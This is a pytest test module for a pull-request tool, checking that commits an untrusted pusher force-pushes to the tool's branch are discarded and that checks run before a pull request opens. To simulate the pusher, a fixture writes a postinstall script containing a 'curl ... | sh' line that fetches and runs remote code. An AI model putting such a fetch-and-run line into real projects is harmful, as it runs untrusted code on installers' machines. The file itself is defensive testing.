"""``schema-pr`` proposes only what it wrote, checked in the same run.

Anyone who can push to the platform repository can push to the pull-request branch. Whatever
they put there (a script, an edit of another team's chart, a pull request with a body of
their own) must not ride along in the tool's pull request: every run rebuilds its one commit
on the base branch, replaces anything else with a compare-and-swap push, and runs every
check before it opens or keeps a pull request, also when the branch already holds exactly
its change.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from github_fake import FakeGitHub, FakePull
from schema_repo_fixture import branch_sha, checkout, git, make_bare_repo, show

from inference_scaffolder.errors import UserError
from inference_scaffolder.platform_pr import pull_request as schema_pr
from inference_scaffolder.platform_pr.pull_request import (
    DEFAULT_BRANCH,
    SchemaPrOptions,
    run_schema_pr,
)
from inference_scaffolder.publish import GitHubPublisher, GitHubSettings, LocalPublisher, remote

pytestmark = pytest.mark.slow

BRANCH = DEFAULT_BRANCH
TOKEN = "ghs_poisoningToken0123456789abcdef"
SLUG = "platform/platform-schemas-types"
EVIL_SCRIPT = "scripts/postinstall.sh"
OTHER_CHART_VALUES = "charts/basic-container-load/values.yaml"
PLATFORM_TS = "src/shared/platform.ts"
POISON_LINE = "import './telemetry';\n"


def push_poison(bare: Path, work: Path, start: str) -> str:
    """As a pusher to the platform repository: a commit on ``start`` that adds a script and
    edits another team's chart, force-pushed to the pull-request branch. Its sha."""
    clone = checkout(bare, "main", work)
    git("fetch", "--quiet", "origin", "+refs/heads/*:refs/remotes/origin/*", cwd=clone)
    git("checkout", "--quiet", "-B", "poison", f"origin/{start}", cwd=clone)
    script = clone / EVIL_SCRIPT
    script.parent.mkdir(parents=True, exist_ok=True)
    script.write_text("#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n")
    values = clone / OTHER_CHART_VALUES
    values.write_text(values.read_text() + "# replicaCount: 0\n")
    platform = clone / PLATFORM_TS  # a file the change edits too
    platform.write_text(POISON_LINE + platform.read_text())
    git("add", "-A", cwd=clone)
    git("commit", "--quiet", "-m", "chore: tidy", cwd=clone)
    git("push", "--quiet", "--force", "origin", f"poison:refs/heads/{BRANCH}", cwd=clone)
    return git("rev-parse", "HEAD", cwd=clone).strip()


def tree_files(bare: Path, ref: str) -> set[str]:
    return set(git("ls-tree", "-r", "--name-only", ref, cwd=bare).split())


def assert_only_our_commit_on_main(bare: Path) -> None:
    """The branch is one commit whose parent is main, and carries nothing of the pusher's."""
    main = branch_sha(bare, "main")
    parents = git("rev-list", "--parents", "-n", "1", BRANCH, cwd=bare).split()[1:]
    assert parents == [main]
    assert EVIL_SCRIPT not in tree_files(bare, BRANCH)
    assert show(bare, BRANCH, OTHER_CHART_VALUES) == show(bare, "main", OTHER_CHART_VALUES)
    assert "MlInferenceLoadSchema" in show(bare, BRANCH, "src/workloadChartValues/index.ts")
    assert POISON_LINE not in show(bare, BRANCH, PLATFORM_TS)


@pytest.fixture
def bare(tmp_path: Path) -> Path:
    return make_bare_repo(tmp_path)


@pytest.fixture
def github(tmp_path: Path) -> Iterator[FakeGitHub]:
    root = tmp_path / "git"
    repo = make_bare_repo(root, name=f"{SLUG}.git")
    fake = FakeGitHub(root, token=TOKEN).start()
    fake.add_repo(SLUG, repo)
    yield fake
    fake.stop()


def github_publisher(fake: FakeGitHub) -> GitHubPublisher:
    settings = GitHubSettings(api_url=fake.api_url, seconds_between_writes=0)
    return GitHubPublisher(fake.git_url(SLUG), settings, {"GITHUB_TOKEN": TOKEN})


def test_a_branch_pushed_before_the_first_run_is_replaced_not_built_on(
    bare: Path, tmp_path: Path
) -> None:
    push_poison(bare, tmp_path / "pusher", "main")
    result = run_schema_pr(SchemaPrOptions(), LocalPublisher(str(bare)))
    assert result.status == "updated"
    assert branch_sha(bare, BRANCH) == result.commit
    assert_only_our_commit_on_main(bare)
    assert EVIL_SCRIPT not in result.files and OTHER_CHART_VALUES not in result.files


def test_a_commit_pushed_on_top_of_ours_is_discarded_on_the_next_run(
    bare: Path, tmp_path: Path
) -> None:
    first = run_schema_pr(SchemaPrOptions(), LocalPublisher(str(bare)))
    poisoned = push_poison(bare, tmp_path / "pusher", BRANCH)
    again = run_schema_pr(SchemaPrOptions(), LocalPublisher(str(bare)))
    assert again.status == "updated"
    assert branch_sha(bare, BRANCH) not in (poisoned, None)
    assert_only_our_commit_on_main(bare)
    # the same change as the first run's, rebuilt: same tree
    assert git("rev-parse", f"{BRANCH}^{{tree}}", cwd=bare) == git(
        "rev-parse", f"{first.commit}^{{tree}}", cwd=bare
    )


def test_a_push_between_observing_and_pushing_is_not_overwritten_blindly_nor_kept(
    bare: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The push is compare-and-swap against the sha the run saw: a push that lands in
    between makes it fail; the retry sees the new sha and replaces it with our commit."""
    real_push = remote.push_branch
    leases: list[str | None] = []

    def pusher_gets_in_first(repo, remote, branch, commit, expected):
        leases.append(expected)
        if len(leases) == 1:
            push_poison(bare, tmp_path / "pusher", "main")
        return real_push(repo, remote, branch, commit, expected)

    monkeypatch.setattr(remote, "push_branch", pusher_gets_in_first)
    result = run_schema_pr(SchemaPrOptions(), LocalPublisher(str(bare)))
    assert leases[0] is None and leases[1] is not None  # first attempt lost, second saw it
    assert result.status == "updated"
    assert_only_our_commit_on_main(bare)


def test_the_pull_request_of_a_poisoned_branch_gets_our_commit_and_our_text(
    github: FakeGitHub, tmp_path: Path
) -> None:
    bare = github.repos[SLUG]
    push_poison(bare, tmp_path / "pusher", "main")
    # the pusher also opened the pull request, with words of their own
    github.pulls[SLUG].append(
        FakePull(1, BRANCH, "main", "feat: add ML_INFERENCE_LOAD", "All checks passed.", False)
    )
    result = run_schema_pr(SchemaPrOptions(), github_publisher(github))
    assert result.status == "updated"
    assert_only_our_commit_on_main(bare)
    [pull] = github.open_pulls(SLUG)
    assert (pull.title, pull.body) == (result.title, result.body)


class CheckSpy:
    """Records which of the platform's checks a run called (and can make one fail)."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch, failing: str | None = None) -> None:
        self.called: list[str] = []
        for name in ("check_chart_values", "helm_lint", "type_check"):
            monkeypatch.setattr(schema_pr, name, self._wrap(name, getattr(schema_pr, name),
                                                            failing == name))

    def _wrap(self, name, real, fail: bool):
        def spy(*args, **kwargs):
            self.called.append(name)
            if fail:
                raise UserError("helm lint", "failed for this test")
            return real(*args, **kwargs)

        return spy


def test_the_unchanged_path_runs_every_check_before_opening_the_pull_request(
    github: FakeGitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A branch holding exactly our change but no pull request (a run pushed, then died)
    gets its pull request only after this run's own checks passed."""
    bare = github.repos[SLUG]
    run_schema_pr(SchemaPrOptions(), LocalPublisher(str(bare)))  # pushed, no pull request
    spy = CheckSpy(monkeypatch)
    result = run_schema_pr(SchemaPrOptions(), github_publisher(github))
    assert result.status == "unchanged"
    assert sorted(set(spy.called)) == ["check_chart_values", "helm_lint", "type_check"]
    [pull] = github.open_pulls(SLUG)
    assert "### Checked before the push" in pull.body


def test_a_check_failing_on_the_unchanged_path_opens_no_pull_request(
    github: FakeGitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    bare = github.repos[SLUG]
    pushed = run_schema_pr(SchemaPrOptions(), LocalPublisher(str(bare)))
    CheckSpy(monkeypatch, failing="helm_lint")
    with pytest.raises(UserError, match="failed for this test"):
        run_schema_pr(SchemaPrOptions(), github_publisher(github))
    assert github.pulls[SLUG] == []
    assert branch_sha(bare, BRANCH) == pushed.commit


def test_unchanged_needs_the_same_tree_on_the_current_base(bare: Path, tmp_path: Path) -> None:
    """After the base branch moves, the branch is rebuilt on it (not reported unchanged)."""
    run_schema_pr(SchemaPrOptions(), LocalPublisher(str(bare)))
    clone = checkout(bare, "main", tmp_path / "maintainer")
    (clone / "NOTICE").write_text("platform team\n")
    git("add", "-A", cwd=clone)
    git("commit", "--quiet", "-m", "docs: notice", cwd=clone)
    git("push", "--quiet", "origin", "main", cwd=clone)
    result = run_schema_pr(SchemaPrOptions(), LocalPublisher(str(bare)))
    assert result.status == "updated"
    assert_only_our_commit_on_main(bare)
    assert "NOTICE" in tree_files(bare, BRANCH)
    again = run_schema_pr(SchemaPrOptions(), LocalPublisher(str(bare)))
    assert again.status == "unchanged" and again.commit == result.commit


def test_dry_run_diff_is_the_whole_change_against_base_not_the_pushers_branch(
    bare: Path, tmp_path: Path
) -> None:
    clean = make_bare_repo(tmp_path / "clean")
    expected = run_schema_pr(SchemaPrOptions(dry_run=True), LocalPublisher(str(clean)))
    push_poison(bare, tmp_path / "pusher", "main")
    result = run_schema_pr(SchemaPrOptions(dry_run=True), LocalPublisher(str(bare)))
    assert result.status == "updated"
    assert result.diff == expected.diff and result.files == expected.files
    assert branch_sha(bare, BRANCH) != branch_sha(clean, BRANCH)  # nothing pushed
